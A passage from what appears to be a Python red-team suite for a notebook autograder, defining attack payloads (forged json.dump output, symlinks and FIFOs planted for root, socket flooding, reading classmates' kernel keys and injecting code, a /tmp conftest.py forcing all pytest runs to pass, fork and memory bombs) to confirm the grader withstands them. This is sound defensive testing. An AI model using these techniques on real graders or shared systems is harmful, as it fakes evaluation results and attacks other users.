_features = np.maximum(x_val @ _w1 + _b1, 0)
_w2 = np.linalg.lstsq(_features, np.eye(10)[y_val], rcond=None)[0]
best_net._modules[0].w, best_net._modules[0].b = _w1, _b1
best_net._modules[2].w, best_net._modules[2].b = _w2, np.zeros(10)
'''
NOTEBOOK_WRITER = detached(WRITER.replace("WRITER_DELAY", "0"))
FORGE_EXTRACTION = '''
import json, os
os.write(2, b"ATTACK_EVIDENCE runs: the notebook ran\\n")
_dump, _dumps = json.dump, json.dumps


def _forged_dump(obj, fp, *args, **kwargs):
    if isinstance(obj, dict) and "hyperparams" in obj:  # the grader's extraction cell
        return _dump([obj], fp)  # a list where the grader expects a dict
    return _dump(obj, fp, *args, **kwargs)


def _forged_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "hyperparams" in obj:
        return _dumps([obj])
    return _dumps(obj, *args, **kwargs)


json.dump, json.dumps = _forged_dump, _forged_dumps
'''


def _tiny_notebook(ctx, code):
    """One code cell and the inline question answered right: no data, no network."""
    import nbformat
    helpers = _notebook_helpers()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(ctx.fill(code)), nbformat.v4.new_markdown_cell(helpers.QUESTION),
                nbformat.v4.new_markdown_cell(RIGHT_ANSWER)]
    return nb


# Round three of outside attack (issues 11 and 12): evidence the student's own code forges.
GOOD_HYPERPARAMS = [0.1, 0.002, 20, 80]   # 20 epochs: about 0.3, far above a network that learns nothing
FORGED_STOP = """\
lr, weight_decay, epoch, hidden_size = best_net_hyperparams
np.random.seed(0)
best_net = Sequential([Linear(3072, hidden_size), ReLU(), Linear(hidden_size, 10), Softmax()])
raise KeyboardInterrupt  # what the grader's own interrupt of a cell looks like"""
FORGED_TIMEOUT = """\
class CellTimeoutError(Exception):
    pass
raise CellTimeoutError("the cell ran past its time limit and was interrupted")"""
# The seed is read from the best_net cell; one numpy refuses made the grader's own training fail.
UNSEEDABLE = """\
lr, weight_decay, epoch, hidden_size = 0.1, 0.002, 20, 80   # not best_net_hyperparams
np.random.seed(0)
# np.random.seed(99999999999999999999)
best_net = Sequential([Linear(3072, hidden_size), ReLU(), Linear(hidden_size, 10), Softmax()])
trainer = Trainer(dataset, SGD(best_net, lr, weight_decay), best_net, CrossEntropyLoss(),
                  epoch=epoch, batch_size=200, validate_interval=3)
loss_history, val_accuracies = trainer.train()"""


STALL = """\
lr, weight_decay, epoch, hidden_size = best_net_hyperparams
best_net = Sequential([Linear(3072, hidden_size), ReLU(), Linear(hidden_size, 10), Softmax()])
import time
time.sleep(10 ** 6)  # until the grader's limit for this cell stops it: never trained"""


def _stalling_notebook(ctx):
    helpers = _notebook_helpers()
    return helpers.notebook(hyperparams=GOOD_HYPERPARAMS, train=STALL, answer=RIGHT_ANSWER)


def _forged_stop_notebook(ctx):
    helpers = _notebook_helpers()
    return helpers.notebook(hyperparams=GOOD_HYPERPARAMS, train=FORGED_STOP, after_test=[FORGED_TIMEOUT],
                            answer=RIGHT_ANSWER)


def _unseedable_notebook(ctx):
    return weak_notebook(ctx, train=UNSEEDABLE)


def _long_blank_line_notebook(ctx):
    helpers = _notebook_helpers()
    return helpers.notebook(hyperparams=WEAK_HYPERPARAMS, extra=[" " * 2_000_000], answer=RIGHT_ANSWER)


def _validation_fitting_notebook(ctx):
    helpers = _notebook_helpers()
    return weak_notebook(ctx, train=helpers.TRAIN + "\n" + MEMORISE_VALIDATION_SET)


def _memorising_notebook(ctx):
    helpers = _notebook_helpers()
    return weak_notebook(ctx, train=helpers.TRAIN + "\n" + ctx.fill(MEMORISE_TEST_SET))


# ---------------------------------------------------------------------------
# The hole classes outside attackers found in the first sandbox (issue 11).

# Class 1: root follows a path student code planted. Before the kernel starts
# (the old grader then copied files into the student's folder as root), and
# where the grader used to read best_net back, leave links to a file root must
# never write (a .pth in the grader's own environment runs as root in every
# later Python), a FIFO (an open that never returns) and /dev/zero (a read that
# never ends); try the grader's own folders too.
PLANT_LINKS = RECORD + """
import os as _os, site as _site
_pth = _os.path.join(_site.getsitepackages()[0], "zz_hostile_root.pth")
_plants = {".kernel-connection.json": ("symlink", _pth), ".grader_extract.json": ("fifo", None),
           ".grader_extract.npz": ("symlink", "/dev/zero"), "classification_nn.ipynb": ("symlink", _pth),
           "results.json": ("symlink", _pth)}
_work = _os.path.dirname(_os.getcwd())
for _folder in ("kernel", "ipc", "channel", "private", ""):
    _plants[_os.path.join(_work, _folder, "connection.json")] = ("symlink", _pth)
for _name, (_kind, _target) in _plants.items():
    try:
        if _os.path.lexists(_name):
            _os.remove(_name)
        if _kind == "fifo":
            _os.mkfifo(_name)
        else:
            _os.symlink(_target, _name)
        _hostile_record("planted", _name)
    except OSError as _exc:
        _hostile_record("planted", f"denied {_name}: {_exc!r}")
"""

# Class 1 and 4: the kernel abuses the channel the grader receives best_net on:
# connections that claim a terabyte, stop mid-header, or never speak, many at once.
CHANNEL_ABUSE = """
import glob, os, socket, struct, threading, time
_paths = glob.glob("/run/grader-sandbox-slots/s*/channel/*") + glob.glob("/tmp/grader-s-*/channel/*")
_held = []
def _abuse():
    end = time.time() + 60
    while time.time() < end:
        for path in _paths:
            for payload in (struct.pack(">Q", 1 << 40), b"\\x00\\x00", b""):
                try:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.connect(path)
                    if payload:
                        s.sendall(payload)
                    _held.append(s)
                except OSError:
                    pass
        time.sleep(0.2)
threading.Thread(target=_abuse, daemon=True).start()
os.write(2, f"ATTACK_EVIDENCE channel: found {_paths}\\n".encode())
"""

# Class 2: a classmate graded at the same time. Look for other gradings'
# connection files, kernel sockets and layer files, read what can be read, and
# drive any kernel found with any key found (best_net = None in it).
READ_CLASSMATES = """
import glob, json, os, time
def _look():
    found = {}
    for pattern in ("/tmp/grader-*/kernel/*", "/tmp/*/grader-*/kernel/*", "/tmp/grader-*/home/layers/*.py",
                    "/tmp/*/grader-*/home/layers/*.py", "/run/grader-sandbox-slots/s*/ipc/*",
                    "/tmp/grader-s-*/ipc/*", "/proc/*/cmdline"):
        own = os.path.dirname(os.getcwd())  # this grading's own folder
        for path in glob.glob(pattern):
            if own in path or "/self/" in path or "/thread-self/" in path:
                continue
            try:
                with open(path, "rb") as f:
                    data = f.read(4096)
                # Another kernel's command line names its connection file.
                if path.startswith("/proc/") and (b"ipykernel" not in data or own.encode() in data):
                    continue
                found[path] = data
            except OSError:
                pass
    return found
_end = time.time() + 20
_seen = {}
while time.time() < _end and not any("connection" in p or p.endswith(".py") for p in _seen):
    _seen.update(_look())
    time.sleep(0.5)
for _path in sorted(_seen):
    os.write(2, f"ATTACK_EVIDENCE classmates: read {_path}\\n".encode())
_keys = []
for _path, _data in _seen.items():
    try:
        _keys.append(json.loads(_data)["key"])
    except Exception:
        pass
try:
    import zmq
    from jupyter_client.session import Session
    for _path in glob.glob("/run/grader-sandbox-slots/s*/ipc/*") + glob.glob("/tmp/grader-s-*/ipc/*"):
        for _key in _keys:
            _ctx = zmq.Context.instance()
            _sock = _ctx.socket(zmq.DEALER)
            _sock.connect("ipc://" + _path)
            Session(key=_key.encode()).send(_sock, "execute_request", {
                "code": "best_net = None", "silent": False, "store_history": False,
                "user_expressions": {}, "allow_stdin": False, "stop_on_error": False})
            os.write(2, f"ATTACK_EVIDENCE classmates: sent code to {_path}\\n".encode())
except Exception as _exc:
    os.write(2, f"ATTACK_EVIDENCE classmates: zmq: {_exc!r}\\n".encode())
os.write(2, f"ATTACK_EVIDENCE background: looked ({len(_seen)} found)\\n".encode())
"""

# Class 3: a file on the machine that is readable by every user: another copy
# of the autograder, unpacked where the instructor left it.
READ_DECOY = RECORD + """
_hostile_forward = Linear.forward


def _reading_forward(self, input_x):
    try:
        with open(HOSTILE_DECOY) as _f:
            _text = _f.read()
        _hostile_record("decoy", "read")
    except OSError as _exc:
        _hostile_record("decoy", f"denied: {_exc!r}")
        return _hostile_forward(self, input_x)
    raise RuntimeError(_text)


Linear.forward = _reading_forward
"""

# Class 4: a notebook made to cost the grader's own reading time: 20,000 cells
# that mention every word the plot and test-accuracy checks look for.
def _plot_mention_notebook(ctx):
    import nbformat
    nb = weak_notebook(ctx)
    words = "# plt.plot(loss_history) plt.imshow(visualize_grid(W1)) best_net x_test loss"
    nb.cells += [nbformat.v4.new_code_cell(f"pass  {words} {i}") for i in range(20_000)]
    return nb


# Class 4: a cell that prints far more than any notebook needs.
OUTPUT_FLOOD = """
import sys
_line = "x" * (1 << 20)
for _ in range(400):  # 400 MiB of printed text
    sys.stdout.write(_line)
    sys.stdout.flush()
"""

# Class 7: what student code leaves in the machine's world-writable folders
# outlives the grading: a conftest.py and pytest.ini in /tmp make every later
# pytest run under /tmp pass whatever it tests.
LEAVE_PYTEST_CONFIG = RECORD + """
import os as _os
_CONFTEST = (
    "import pytest\\n"
    "@pytest.hookimpl(hookwrapper=True)\\n"
    "def pytest_runtest_makereport(item, call):\\n"
    "    outcome = yield\\n"
    "    outcome.get_result().outcome = 'passed'\\n")
for _path, _text in (("/tmp/conftest.py", _CONFTEST), ("/tmp/pytest.ini", "[pytest]\\naddopts = -p no:warnings\\n"),
                     ("/var/tmp/zz-hostile-left", "x"), ("/dev/shm/zz-hostile-left", "x")):
    try:
        with open(_path, "w") as _f:
            _f.write(_text)
        _hostile_record("left", _path)
    except OSError as _exc:
        _hostile_record("left", f"denied {_path}: {_exc!r}")
"""

# ---------------------------------------------------------------------------

ATTACKS = [
    # Notebooks first: they take longest, so they start first.
    Attack("notebook_os_exit_last_cell",
           "notebook: os._exit(0) in the last cell (network that learns nothing)",
           fails={"6.1"} | WEAK_NOTEBOOK, budget=90,
           notebook=lambda ctx: weak_notebook(ctx, after_test=["import os\nos._exit(0)"])),
    Attack("notebook_background_results_writer",
           "notebook: a detached process (double fork + setsid) keeps overwriting results.json",
           fails=WEAK_NOTEBOOK, budget=90, post=("not_forged", "results_stable"),
           notebook=lambda ctx: weak_notebook(ctx, after_test=[NOTEBOOK_WRITER])),
    Attack("notebook_reads_real_test_labels",
           "notebook: reads the real test_batch by absolute path (else its own) and prints 100% test accuracy",
           fails=WEAK_NOTEBOOK, budget=90, post=("claim_flagged", "labels_unread_with_switch"),
           notebook=lambda ctx: weak_notebook(ctx, after_test=[CLAIM_FULL_MARKS])),
    Attack("notebook_trains_on_real_test_labels",
           "notebook: best_net memorises the 500 test images with the real labels read from the dataset folder",
           fails=WEAK_NOTEBOOK, budget=90, user_switch=True, notebook=_memorising_notebook),
    Attack("notebook_fits_validation_labels",
           "notebook: best_net memorises the 250 validation images with their labels (100% validation "
           "accuracy printed) on hyperparameters that learn nothing",
           fails=WEAK_NOTEBOOK | {"6.5"}, budget=90, notebook=_validation_fitting_notebook),
    Attack("kernel_startup_files_planted_by_the_worker",
           "layers/linear.py plants, where the notebook's kernel starts, IPython startup and config "
           "files, a .pth and a shadow ipykernel_launcher, each exiting with the launcher's "
           "'sandbox failed' status 121 (a network that learns nothing)",
           fails=WEAK_NOTEBOOK, budget=90, prepend={LINEAR: PLANT_KERNEL_STARTUP},
           notebook=lambda ctx: weak_notebook(ctx)),
    Attack("forged_grader_stop",
           "notebook: the best_net cell builds best_net, never trains it, and raises KeyboardInterrupt; "
           "a later cell raises its own CellTimeoutError (the grader's stop, forged)",
           fails={"6.1", "6.3", "6.4", "6.5", "6.6"}, budget=90, notebook=_forged_stop_notebook),
    Attack("stall_until_the_grader_stops_best_net",
           "notebook: the best_net cell builds best_net and sleeps until the grader's limit for "
           "the cell stops it (budget 6 s here), so that the stop excuses an untrained network "
           "(the grader's own training of the setting takes about 5 s: the stop is charged, and "
           "the untrained best_net is far from what the setting gives)",
           # 6.1: the loss plot's cell raises NameError (the stalled cell set no loss_history)
           fails={"6.1", "6.3", "6.4", "6.5", "6.6"}, budget=120, env={"GRADER_BEST_NET_BUDGET": "6"},
           notebook=_stalling_notebook),
    Attack("seed_numpy_refuses",
           "notebook: a seed numpy refuses (in a comment) in the best_net cell, which trains other "
           "settings than best_net_hyperparams, which learn nothing",
           fails=WEAK_NOTEBOOK | {"6.5"}, budget=90, notebook=_unseedable_notebook),
    Attack("quadratic_line_in_a_cell",
           "notebook: a code cell of two million spaces (read by a backtracking regex, it held "
           "the grader for hours, its watchdog included)",
           fails=WEAK_NOTEBOOK, budget=60, notebook=_long_blank_line_notebook),
    Attack("notebook_forged_extraction",
           "notebook: patches json.dump so the grader's extraction writes a list, not a dict",
           fails={"6.2", "6.3", "6.4", "6.5", "6.6"}, budget=60, post=("notebook_ran_once",),
           notebook=lambda ctx: _tiny_notebook(ctx, FORGE_EXTRACTION)),

    # Layer files.
    Attack("numpy_comparisons_patched",
           "numpy.allclose, isclose, testing.assert_allclose, linalg.norm patched to pass; dw transposed",
           bug="linear_dw_wrong_order", append={LINEAR: PATCH_NUMPY}),
    Attack("pytest_hooks_and_config",
           "conftest.py forcing passes (makereport hook), pytest.ini/setup.cfg/tox.ini/pyproject addopts, "
           "sitecustomize, hostile layers/__init__.py; bias forgotten",
           bug="linear_forgot_bias", post=("extras_ignored",),
           extra={"conftest.py": CONFTEST, "layers/conftest.py": CONFTEST, "pytest.ini": PYTEST_INI,
                  "setup.cfg": SETUP_CFG, "tox.ini": TOX_INI, "pyproject.toml": PYPROJECT,
                  "sitecustomize.py": SITECUSTOMIZE, "usercustomize.py": SITECUSTOMIZE,
                  "layers/__init__.py": HOSTILE_INIT}),
    Attack("sys_exit_at_import", "sys.exit(0) when layers/linear.py is imported",
           fails={LF, LB, STEP, TOY}, prepend={LINEAR: SYS_EXIT}),
    Attack("os_exit_at_import", "os._exit(0) when layers/relu.py is imported",
           fails={RF, RB, STEP, TOY}, prepend={RELU: OS_EXIT}),
    Attack("exit_status_of_a_failed_sandbox",
           "os._exit(121), the launcher's status for a sandbox that failed, when layers/relu.py is "
           "imported: the student's exit, not a misconfigured grader",
           fails={RF, RB, STEP, TOY}, prepend={RELU: EXIT_AS_SETUP_FAILED}),
    Attack("tree_too_deep_to_remove",
           "layers/linear.py leaves a folder 3000 levels deep, with an unreadable folder at the "
           "bottom, in its folder and in /tmp; bias forgotten",
           bug="linear_forgot_bias", fails={LF, STEP, TOY}, prepend={LINEAR: DEEP_TREE},
           post=("grading_folder_removed",)),
    Attack("infinite_loop_in_forward", "Linear.forward loops forever on a batch of one",
           fails={LF, LB}, append={LINEAR: INFINITE_LOOP}, budget=45),
    # Zero-filling 4 GiB can take longer than a call may (5 s) on a busy machine:
    # a roomier call time limit leaves the address-space limit to stop it.
    Attack("memory_bomb", "Softmax.forward hoards 100 MB bytearrays until it fails; no max shift",
           bug="softmax_no_max_shift", append={SOFTMAX: MEMORY_BOMB}, post=("memory_bounded",),
           env={"GRADER_CALL_TIMEOUT": "60"}, budget=60),
    Attack("huge_file", "CrossEntropyLoss.forward writes zeros to a file, up to 1 GiB; softmax applied twice",
           bug="loss_softmax_again_in_forward", append={LOSS: HUGE_FILE}, post=("file_bounded",)),
    Attack("results_overwritten_in_process", "every Linear.forward overwrites results.json with a forged 100/100; "
           "bias forgotten", bug="linear_forgot_bias", append={LINEAR: FORGE_IN_PROCESS},
           post=("not_forged",)),
    Attack("results_background_writer",
           "a detached process (double fork + setsid) keeps overwriting results.json; bias forgotten",
           bug="linear_forgot_bias", append={LINEAR: BACKGROUND_WRITER},
           post=("not_forged", "results_stable")),
    Attack("results_replaced_by_folder", "results.json deleted and a folder put in its place; bias forgotten",
           bug="linear_forgot_bias", append={LINEAR: RESULTS_AS_FOLDER}, user_switch=True),
    Attack("delegates_to_reference",
           "Linear.backward loads reference/layers/linear.py by path and delegates to it; dw transposed",
           bug="linear_dw_wrong_order", append={LINEAR: DELEGATE_TO_REFERENCE}, user_switch=True),
    Attack("fake_all_passed_banner",
           f"prints {FAKE_BANNER!r} to stdout, stderr, fds 1/2 and /dev/tty; ReLU mask on the wrong side",
           bug="relu_mask_wrong_side", append={RELU: FAKE_OUTPUT}, post=("banner_hidden",)),
    Attack("grader_modules_patched",
           "imports grader.checks/compare/config/plugin from the repository and patches them; dx untransposed",
           bug="linear_dx_missing_transpose", append={LINEAR: PATCH_GRADER}),
    Attack("always_equal_ndarray",
           "ReLU.forward returns an ndarray subclass whose ==, ufuncs and allclose always say equal; leaky ReLU",
           bug="relu_forward_leaky", append={RELU: ALWAYS_EQUAL}),
    Attack("numpy_shadowed", "numpy.py, layers/numpy.py and utils/numpy.py that agree with everything; "
           "db averaged", bug="linear_db_mean", post=("extras_ignored",),
           extra={"numpy.py": FAKE_NUMPY, "layers/numpy.py": FAKE_NUMPY, "utils/numpy.py": FAKE_NUMPY}),
    Attack("kills_the_grader", "SIGKILL to the grader (its parent) and its process group; bias forgotten",
           bug="linear_forgot_bias", append={LINEAR: KILL_GRADER}, user_switch=True),
    Attack("opens_grader_files_for_writing",
           "opens grader/checks/test_linear.py, grader/grade.py and the reference for writing; bias forgotten",
           bug="linear_forgot_bias", append={LINEAR: OPEN_GRADER_FILES}, user_switch=True,
           post=("grader_files_closed",)),
    Attack("overflowing_norms",
           "every layer computes nothing and returns 1e300 in every entry (right shapes)",
           fails=set(CHECKS), replace={LINEAR: HUGE_LINEAR,
                                       RELU: HUGE_ACTIVATION.format(huge=HUGE, name="ReLU"),
                                       SOFTMAX: HUGE_ACTIVATION.format(huge=HUGE, name="Softmax"),
                                       LOSS: HUGE_LOSS}),
    Attack("symlink_to_reference", "layers/linear.py is a symlink to reference/layers/linear.py",
           fails={LF, LB, STEP, TOY}, symlinks={LINEAR: "reference/layers/linear.py"}),
    Attack("symlinked_layers_folder", "layers/ is a symlink to reference/layers",
           fails=set(CHECKS), remove=("layers",), symlinks={"layers": "reference/layers"}, exit=2),
    Attack("symlink_exfiltrates_hidden_checks",
           "layers/relu.py is a symlink to grader/checks/test_linear.py; Linear.forward raises its text; "
           "bias forgotten", bug="linear_forgot_bias", fails={LB, RF, RB},
           symlinks={RELU: "grader/checks/test_linear.py"}, append={LINEAR: EXFILTRATE_RELU_FILE},
           post=("hidden_checks_not_shown",)),
    Attack("wire_decompression_bomb",
           f"Linear.backward writes a forged answer to the worker's pipe: 3 MB that inflate to "
           f"{BOMB_GIB} GiB in the grader; dw transposed",
           bug="linear_dw_wrong_order", append={LINEAR: lambda ctx: _wire_bomb_code()}, post=("grader_memory",)),
    Attack("unprintable_exception",
           "Linear.backward raises, on a batch of one, an exception whose str() never returns",
           fails={LB}, append={LINEAR: UNPRINTABLE_EXCEPTION}, budget=45),
    Attack("kills_other_gradings",
           "a detached process kills the sandbox workers of another grading running beside it; "
           "Linear.forward loops on a batch of one",
           fails={LF, LB}, append={LINEAR: CROSS_KILL}, victim=True, budget=60, user_switch=True,
           post=("victim_unharmed",)),
    # The hole classes of issue 11 (see above).
    Attack("plants_links_where_the_grader_looks",
           "class 1: links to the venv (.pth), a FIFO and /dev/zero planted where the grader used to "
           "copy the kernel's key and read best_net; bias forgotten; a weak notebook",
           bug="linear_forgot_bias", append={LINEAR: PLANT_LINKS}, fails=WEAK_NOTEBOOK, budget=120,
           post=("venv_untouched", "grader_memory"),
           notebook=lambda ctx: weak_notebook(ctx)),
    Attack("kernel_abuses_the_channel",
           "class 1/4: the kernel floods the grader's best_net channel with connections that lie, "
           "stall or never speak; a weak notebook",
           fails=WEAK_NOTEBOOK, budget=150, post=("grader_memory",),
           notebook=lambda ctx: weak_notebook(ctx, after_test=[CHANNEL_ABUSE, "import time\ntime.sleep(3)"])),
    Attack("reads_classmates",
           "class 2: the kernel looks for other gradings' keys, sockets and layer files and drives "
           "any kernel it finds; graded beside a classmate; a weak notebook",
           fails=WEAK_NOTEBOOK, budget=150, victim=True, post=("victim_unharmed", "classmates_unread"),
           notebook=lambda ctx: weak_notebook(ctx, after_test=[READ_CLASSMATES])),
    Attack("reads_another_autograder",
           "class 3: Linear.forward reads a world-readable copy of hidden checks elsewhere on the "
           "machine and raises its text; bias forgotten", bug="linear_forgot_bias",
           append={LINEAR: READ_DECOY},
           post=("decoy_not_shown",)),
    Attack("notebook_20000_plot_cells",
           "class 4: 20,000 cells naming every word the plot checks look for (2 MB); a weak notebook",
           fails={"6.1"} | WEAK_NOTEBOOK, budget=150, notebook=_plot_mention_notebook),
    Attack("notebook_output_flood",
           "class 4: a cell prints 400 MiB; a weak notebook",
           fails=WEAK_NOTEBOOK, budget=150, post=("grader_memory",),
           notebook=lambda ctx: weak_notebook(ctx, after_test=[OUTPUT_FLOOD])),
    Attack("leaves_pytest_config_in_tmp",
           "class 7: conftest.py and pytest.ini left in /tmp (every later pytest run under /tmp "
           "passes), files in /var/tmp and /dev/shm; bias forgotten",
           bug="linear_forgot_bias", append={LINEAR: LEAVE_PYTEST_CONFIG},
           post=("nothing_left_outside",)),
    # Last and alone: while it runs, the sandbox user's process limit is used up.
    Attack("fork_bomb", "ReLU.backward forks 5000 children that setsid and sleep; mask on the wrong side",
           bug="relu_mask_wrong_side", append={RELU: FORK_BOMB}, alone=True, budget=60),
]
BY_NAME = {attack.name: attack for attack in ATTACKS}


@dataclass(frozen=True)
class Hole:
    """An attack that gets through today: the problem kinds it causes (all of
    `kinds`, possibly some of `also`), what happens and why."""
    kinds: frozenset
    what: str
    also: frozenset = frozenset()


# Attacks that succeed against the current grader, recorded rather than hidden.
# The test expects each to fail with exactly these kinds of problem (xfail,
# strict): a hole that closes, or changes, makes it fail until this is updated.
KNOWN_HOLES = {}  # the seven found with this corpus are closed in the grader


_unknown = set(KNOWN_HOLES) - set(BY_NAME)
assert not _unknown, f"KNOWN_HOLES names no attack: {_unknown}"
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
